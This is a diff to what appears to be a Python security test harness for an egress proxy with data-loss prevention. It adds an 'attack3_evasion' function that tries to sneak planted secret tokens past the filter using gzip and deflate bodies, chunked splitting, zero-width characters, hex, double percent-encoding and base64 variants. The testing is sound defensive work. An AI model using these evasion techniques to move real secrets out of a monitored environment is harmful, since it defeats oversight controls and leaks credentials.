@@ -12,6 +12,7 @@ before attack 7 (the token hunt) has searched for it.
 """
 import base64
 import errno
+import gzip
 import http.client
 import json
 import os
@@ -21,6 +22,7 @@ import subprocess
 import sys
 import time
 import urllib.parse
+import zlib
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 PROXY = ("127.0.0.1", 9099)
@@ -78,9 +80,11 @@ def via_proxy(method, url, headers=None, body=None, host_header=None):
         c.putheader("Host", host)
         for k, v in (headers or {}).items():
             c.putheader(k, v)
-        if body is not None:
+        if isinstance(body, str):
+            body = body.encode()
+        if body is not None and "Transfer-Encoding" not in (headers or {}):
             c.putheader("Content-Length", str(len(body)))
-        c.endheaders(body.encode() if body is not None else None)
+        c.endheaders(body)
         r = c.getresponse()
         text = r.read().decode("utf-8", "replace")
         c.close()
@@ -368,6 +372,17 @@ def attack_legit():
     out, body = via_proxy("GET", "http://%s:%d/legit" % (ALLOWED, PORT),
                           headers={"Authorization": "Bearer agent-placeholder-value"})
     emit("legit", "python-absolute-form", out, ["200"])
+    # Harmless bodies pass in every framing the exfiltration cases use, so a 403 there
+    # is about the secret, not the shape.
+    benign = b"data=hello world"
+    for tag, headers, body in (
+            ("post", None, benign),
+            ("post-gzip", {"Content-Encoding": "gzip"}, gzip.compress(benign)),
+            ("post-chunked", {"Transfer-Encoding": "chunked"},
+             b"%x\r\n%s\r\n0\r\n\r\n" % (len(benign), benign))):
+        out, _ = via_proxy("POST", "http://%s:%d/legit-%s" % (ALLOWED, PORT, tag),
+                           headers=headers, body=body)
+        emit("legit", "python-" + tag, out, ["200"])
     out, body = curl("-H", "Authorization: Bearer agent-placeholder-value",
                      "http://%s:%d/legit-curl" % (ALLOWED, PORT))
     emit("legit", "curl-env-proxy", out, ["200"])
@@ -476,6 +491,35 @@ def attack3(secrets):
                 out, _ = via_connect(ALLOWED + ":443", ALLOWED, c["method"], c["path"], ALLOWED,
                                      headers=c.get("headers"), body=c.get("body"))
                 emit("3", "https-" + tag, out, BLOCK_DLP)
+
+
+def attack3_evasion(secrets):
+    """Encodings and framings a careful attacker would try on the plain-HTTP route."""
+    url = "http://%s:%d/evade" % (ALLOWED, PORT)
+    for name in ("route-token", "planted-ghp"):
+        v = secrets[name]
+        raw = ("data=" + v).encode()
+        split = len(raw) // 2
+        chunked = b"%x\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n" % (split, raw[:split], len(raw) - split,
+                                                          raw[split:])
+        zw = "\u200b".join(v[i:i + 4] for i in range(0, len(v), 4))
+        cases = {
+            "gzip-body": dict(body=gzip.compress(raw), headers={"Content-Encoding": "gzip"}),
+            "deflate-body": dict(body=zlib.compress(raw), headers={"Content-Encoding": "deflate"}),
+            "unknown-encoding-body": dict(body=raw, headers={"Content-Encoding": "x-rot13"}),
+            "chunked-split-body": dict(body=chunked, headers={"Transfer-Encoding": "chunked"}),
+            "zero-width-body": dict(body="data=" + zw),
+            "hex-query": dict(query="q=" + v.encode().hex()),
+            "double-pct-query": dict(query="q=" + "".join("%%25%02X" % b for b in v.encode())),
+            "b64url-header": dict(headers={"X-Custom": base64.urlsafe_b64encode(
+                v.encode()).decode().rstrip("=")}),
+            "b64-shifted-body": dict(body="data=" + base64.b64encode(b"x" + v.encode()).decode()),
+        }
+        for tag, c in cases.items():
+            u = url + ("?" + c["query"] if "query" in c else "")
+            out, _ = via_proxy("POST" if "body" in c else "GET", u, headers=c.get("headers"),
+                               body=c.get("body"))
+            emit("3", "evade-%s-%s" % (name, tag), out, BLOCK_DLP)
 
 
 def attack3_h2(secrets):
@@ -621,6 +665,7 @@ def main():
     attack1()
     attack2()
     attack3(secrets)
+    attack3_evasion(secrets)
     attack3_h2(secrets)
     attack3_websocket(secrets)
     attack4(secrets)
